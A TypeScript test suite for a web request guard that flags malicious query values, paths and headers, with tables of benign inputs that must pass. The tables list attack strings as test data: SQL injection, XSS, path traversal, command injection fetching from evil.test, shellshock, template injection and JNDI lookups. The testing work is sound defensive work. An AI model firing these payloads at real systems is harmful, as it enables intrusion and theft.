import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guards } from '../../../../src/config/schema/policy/guards.ts';
import { guardPolicy } from '../../../../src/policy/guards/guard.ts';
import { inspect } from '../../../../src/policy/guards/inspect.ts';
import { GUARD_RULE_IDS, type GuardRuleId, idsOf } from '../../../../src/policy/guards/rule-ids.ts';
import { asQuery } from '../exchange-facts.ts';
import { requestFor } from '../policy-request.ts';

const CHROME = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

function found(target: string, headers: readonly string[] = ['Host', 'shop.test', 'User-Agent', CHROME]) {
  return idsOf(inspect(requestFor(target, '/', { request: { headers } }).request));
}

const inQuery = (value: string) => found(`/search?${asQuery('q', value)}`);
const inField = (value: string, name = 'X-Tag') => found('/', ['Host', 'shop.test', name, value]);

describe('values of a query', () => {
  const attacks: readonly (readonly [GuardRuleId, readonly string[]])[] = [
    ['null-byte', ['a\0.png']],
    [
      'traversal',
      [
        '../../secret',
        '..\\..\\secret',
        '/var/www/../../../x',
        '....//....//x',
        '..;/..;/x',
        '../etc/hosts',
        'x=..\\windows',
      ],
    ],
    [
      'local-file',
      ['/etc/passwd', 'file:///etc/hostname', 'php://filter/convert.base64-encode/resource=x', 'C:\\Windows\\System32'],
    ],
    ['header-injection', ['x\r\nSet-Cookie: a=b', 'x\nLocation: http://evil.test', 'x\r\n\r\nHTTP/1.1 200 OK']],
    [
      'sql-union',
      [
        '1 UNION SELECT 1,2,3',
        "' union all select null,null--",
        '1 union/**/select/**/password/**/from/**/users',
        '1 UnIoN/*!50000SeLeCt*/ user,pw from t',
        '-1 union distinct select concat(a,b)',
        "x' union (select @@version)",
        'x union select a.name, b.pw from users',
      ],
    ],
    [
      'sql-tautology',
      [
        "' or '1'='1",
        "' OR 1=1",
        "x' or 1=1#",
        '" or ""="',
        "') or ('a'='a",
        "' or 'x' like 'x",
        '17 or 1=1',
        '1) and (2=2',
        "'||'1'='1",
        "' or true--",
        "' and exists(select 1)",
        "' or not 1=2",
        "' or x=x",
        "' and ascii(substring(pw,1,1))>64",
      ],
    ],
    ['sql-comment', ["admin'--", "admin' -- ", "admin'#", "admin');--", "admin' --+"]],
    [
      'sql-stacked',
      [
        "x'; DROP TABLE users",
        '1;delete from users',
        "'; insert into t values(1)",
        '; update users set admin=1',
        "1; exec xp_cmdshell 'dir'",
        "';shutdown--",
        "1; waitfor delay '0:0:5'",
        '1;declare @x int',
      ],
    ],
    [
      'sql-function',
      [
        "' or sleep(5)",
        '1-sleep(10)',
        'if(1=1,sleep(5),0)',
        'pg_sleep(10)',
        'extractvalue(1,concat(0x7e,version()))',
        'x into outfile /tmp/x',
        'select * from information_schema.tables',
        '1 and benchmark(5000000,md5(1))',
      ],
    ],
    [
      'xss-script',
      ['<script>alert(1)</script>', '<SCRIPT SRC=//evil.test/x.js>', '"></script x', '<iframe src=x>', '<embed/src=x>'],
    ],
    [
      'xss-handler',
      [
        '<img src=x onerror=alert(1)>',
        '<svg/onload=alert(1)>',
        '<body onpageshow = x>',
        `<a href="x"onmouseover='y'>`,
        '<b\nonclick=x',
      ],
    ],
    [
      'xss-uri',
      [
        'javascript:alert(1)',
        ' JavaScript://%0aalert(1)',
        '[x](javascript:alert(1))',
        'data:text/html,<b>',
        'url=javascript:a`1`',
      ],
    ],
    [
      'command',
      [
        '; cat /etc/hosts',
        '| ls -la',
        '&& wget http://evil.test/x',
        '$(id)',
        '$(curl evil.test)',
        'x;cat${IFS}/flag',
        '|whoami',
        '; ping -c 5 127.0.0.1',
        '& ping 127.0.0.1 &',
        'x\n/usr/bin/id -u',
        '; sleep 5',
        '|cat</flag',
        '; powershell.exe -enc AAAA',
      ],
    ],
    ['shellshock', ['() { :;}; echo x']],
    [
      'template',
      [
        '{{7*7}}',
        '${7*7}',
        '#{ 7 * 7 }',
        "{{7*'7'}}",
        '<%= 7*7 %>',
        "{{''.__class__.__mro__}}",
        '${T(java.lang.Runtime).getRuntime()}',
        '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}',
      ],
    ],
    ['jndi', ['${jndi:ldap://evil.test/a}', '${${lower:j}ndi:rmi://x}', '${${::-j}${::-n}di:x}', '${env:AWS_SECRET}']],
  ];

  test.each(attacks.flatMap(([rule, values]) => values.map((value) => [rule, value] as const)))(
    'break %s: %j',
    (rule, value) => {
      expect(inQuery(value)).toContain(rule);
      // As scanners send them against filters: in any case, escaped twice, with + for blanks.
      const twice = encodeURIComponent(encodeURIComponent(value.toUpperCase()));
      expect(found(`/?q=${twice}`)).toContain(rule);
    },
  );

  test.each([
    "O'Brien",
    "rock 'n' roll",
    "it's -- well, it's fine",
    "'quoted' -- and a dash",
    'select a seat',
    'please select from the menu',
    'the student union selected a president',
    'union select committee',
    'drop the table; insert coin',
    'tables; chairs and lamps',
    '1=1 and so 2=2 is true in math',
    'x = y or y = x',
    "name eq 'a' or name eq 'b'",
    "status='open' and owner='me'",
    "project = 'X' AND type in ('bug', 'task') order by created",
    `5' or 6' tall`,
    'C++ or C#',
    '# Title\n\n- a **bold** `code` item | and a [link](https://example.test/a?b=c)\n\n| id | name |\n|---|---|\n| 1 | ls |',
    '{"name":"O\'Brien","tags":["a","b"],"nested":{"x":{}},"note":"1 < 2 && 3 > 2"}',
    '{"query":{"bool":{"must":[{"match":{"title":"select"}}]}}}',
    'query { user(id: 1) { name } }',
    'Hello {{name}}, your order ${order} is on its way',
    'a < b and c > d',
    '<b>bold</b> and <i>italic</i>',
    '<p class="on">only</p>',
    'once upon = a time',
    'javascript: the good parts',
    'learn javascript:',
    'time.sleep(5)',
    'cats; dogs; ls',
    'fields=name;id',
    'name|id',
    'salt & pepper; sugar | spice',
    'cat & mouse; id required',
    '../assets/logo.png',
    'https://example.test/a/../b?c=d#e',
    'C:\\Users\\me\\file.txt',
    '$100 (50% off) {today only}',
    '5*4={20}',
    'f(x) = {x | x*2 > 4}',
    '#{hash} and %{percent}',
    'Tom & Jerry "The Movie"',
    '+49 (0) 30 / 123-456',
    'naïve café — “quotes” ‘single’ €',
    'line one\r\nline two\r\nLocation of the shop: Berlin',
    '2024-01-01T00:00:00+02:00',
    'SGVsbG8gV29ybGQ=/+==',
    "l'été d'aujourd'hui",
    "d'or et d'argent",
    '"exact phrase" or other',
    'WHERE is my order; SELECT size',
    'and 1 of 2 or 3',
    '10 or 20 = many',
    'id',
    '() => {}',
    '',
  ])('break nothing: %j', (value) => {
    expect(inQuery(value)).toEqual([]);
    expect(found(`/?${encodeURIComponent(value)}=1`)).toEqual([]);
    expect(inField(Buffer.from(value.replace(/[\r\n]/g, ' '), 'utf8').toString('latin1'))).toEqual([]);
  });
});

describe('a path', () => {
  test.each<readonly [string, readonly GuardRuleId[]]>([
    ['/a/b', []],
    ['/a/../b', []],
    ['/a/b/../../c', ['traversal']],
    ['/a/%2e%2e/b', ['traversal']],
    ['/a/%252e%252e/b', ['traversal']],
    ['/a/..%c0%af..%c0%afetc', ['traversal']],
    ['/a%00.png', ['null-byte']],
    ['/etc/passwd', ['local-file']],
    ['/cgi-bin/%2Fetc%2Fpasswd', ['local-file']],
    ['/static/proc/self/environ', ['local-file']],
    ['/WIN.INI', ['local-file']],
    ['/etc/password', []],
    ['/.git/config', ['sensitive-file']],
    ['/app/%2eenv', ['sensitive-file']],
    ['/.env.production', ['sensitive-file']],
    ['/.ENV', ['sensitive-file']],
    ['/.git;x/config', ['sensitive-file']],
    ['/.env%3B.css', ['sensitive-file']],
    ['/a;.env', []],
    ['/wp-config.php.bak', ['sensitive-file']],
    ['/.env.example', []],
    ['/.well-known/security.txt', []],
    ['/team/repo.git/info/refs?service=git-upload-pack', []],
    ['/.github/workflows', []],
    ['/%3Cscript%3Ealert(1)%3C/script%3E', ['xss-script']],
    ['/$%7Bjndi:ldap://x%7D', ['jndi']],
    ["/users/O'Brien", []],
    ['/caf%C3%A9/%E2%82%AC;v=1/a,b', []],
    ['*', []],
  ])('%s breaks %j', (target, rules) => {
    expect(found(target)).toEqual(rules);
  });
});

describe('header fields', () => {
  test.each<readonly [string, string, readonly GuardRuleId[]]>([
    ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)', ['scanner']],
    ['user-agent', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)', ['scanner']],
    ['User-Agent', 'Nuclei', ['scanner']],
    ['User-Agent', 'curl/8.5.0', []],
    ['User-Agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', []],
    ['User-Agent', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15', []],
    ['User-Agent', '${jndi:ldap://evil.test/a}', ['jndi']],
    ['User-Agent', "() { :; }; /bin/bash -c 'cat /etc/hosts'", ['command', 'shellshock']],
    ['Accept', '${jndi:dns://evil.test}', ['jndi']],
    ['Accept', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', []],
    ['Authorization', 'Basic ${jndi:x}', ['jndi']],
    ['Authorization', "Bearer ' or '1'='1", []],
    ['Sec-CH-UA', '"Chromium";v="126", "Not/A)Brand";v="8"', []],
    ['If-None-Match', `W/"a' or '1'='1"`, []],
    ['Cookie', "id=1' or '1'='1", ['sql-tautology']],
    ['Cookie', 'session=%7B%22a%22%3A1%7D; theme=dark; _ga=GA1.2.3.4', []],
    ['Referer', 'https://shop.test/search?q=%3Cscript%3Ealert(1)%3C/script%3E', ['xss-script']],
    ['Referer', "https://shop.test/search?q=O'Brien&x=a%20or%20b", []],
    ['X-Forwarded-For', '10.0.0.1, 192.0.2.7', []],
  ])('%s: %s breaks %j', (name, value, rules) => {
    expect(inField(value, name)).toEqual(rules);
  });
});

describe('the policy', () => {
  const target = `/?${asQuery('q', '1 union select 1 -- <script>')}`;

  test('in mode detect notes every rule that is broken, and refuses nothing', () => {
    const request = requestFor(target);
    expect(guardPolicy({ mode: 'detect', exclude: new Set() }).admit(request)).toBeNull();
    expect(request.notes).toEqual(['guard:sql-union', 'guard:xss-script']);
  });

  test('in mode block refuses with the first of them', () => {
    const verdict = guardPolicy({ mode: 'block', exclude: new Set() }).admit(requestFor(target));
    expect(verdict).toMatchObject({ error: { status: 403, code: 'http_request_denied', reason: 'guard-sql-union' } });
  });

  test('asks no rule that is excluded', () => {
    const policy = guardPolicy({ mode: 'block', exclude: new Set(['sql-union', 'xss-script']) });
    const request = requestFor(target);
    expect([policy.admit(request), request.notes]).toEqual([null, []]);
  });
});

test('rules are the same in the schema, in the docs and in the code', () => {
  const [first, ...rest] = GUARD_RULE_IDS;
  expect(guards.parse({ exclude: [first, ...rest] }).exclude).toEqual(GUARD_RULE_IDS);
  expect(guards.shape.exclude.unwrap().element.options).toEqual(GUARD_RULE_IDS);
  const page = readFileSync(resolve(import.meta.dirname, '../../../../docs/guards.md'), 'utf8');
  const table = page.slice(page.indexOf('## Rules'), page.indexOf('## Cost'));
  expect([...table.matchAll(/^\| `([a-z-]+)` \|/gm)].map(([, id]) => id)).toEqual(GUARD_RULE_IDS);
});

test('words without signs break nothing, whatever they are and however they are escaped', () => {
  const word = fc.oneof(
    fc.constantFrom(
      'union',
      'select',
      'or',
      'and',
      'drop',
      'table',
      'insert',
      'into',
      'script',
      'javascript',
      'cat',
      'ls',
      'sleep',
      'id',
    ),
    fc.constantFrom(
      '1',
      '2',
      'on',
      'like',
      'exec',
      'jndi',
      'etc',
      'passwd',
      'naïve',
      '東京',
      'where',
      'delete',
      'admin',
      'not',
      'null',
    ),
    fc.stringMatching(/^[A-Za-z0-9]{1,8}$/),
  );
  // The only one of them that SQL has signs for between its words.
  const isUnion = (text: string): boolean => /union ((all|distinct) )?select/i.test(text);
  const property = fc.property(fc.array(word, { maxLength: 12 }), (words) => {
    const text = words.join(' ');
    fc.pre(!isUnion(text));
    expect(inQuery(text), text).toEqual([]);
    expect(found(`/?q=${encodeURIComponent(encodeURIComponent(text))}`), text).toEqual([]);
  });
  fc.assert(property, { seed: 3, numRuns: 500 });
});

test('octets of any kind are looked at without a mistake, and what is found in them is found among others', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      "'",
      '"',
      ' or ',
      '1=1',
      '--',
      '/*',
      '*/',
      '/*!',
      '<',
      '>',
      '<a on',
      '../',
      '..%2f',
      '%25',
      '%',
      '${',
      '{{',
      '7*7',
      '}}',
      '$(',
    ),
    fc.constantFrom(
      ';',
      '|',
      '\n',
      '\0',
      'javascript:',
      'union',
      'select',
      '(',
      ')',
      '#',
      '\xc0\xae',
      '() {',
      '&',
      '=',
    ),
    fc.string({ maxLength: 3 }),
  );
  const property = fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
    const value = Buffer.from(pieces.join('')).toString('latin1');
    const target = `/${encodeURIComponent(value)}?${encodeURIComponent(value)}=${value}&q=%27%20or%201%3D1`;
    expect(found(target, ['X-Tag', value, 'Cookie', value])).toContain('sql-tautology');
  });
  fc.assert(property, { seed: 9, numRuns: 500 });
});
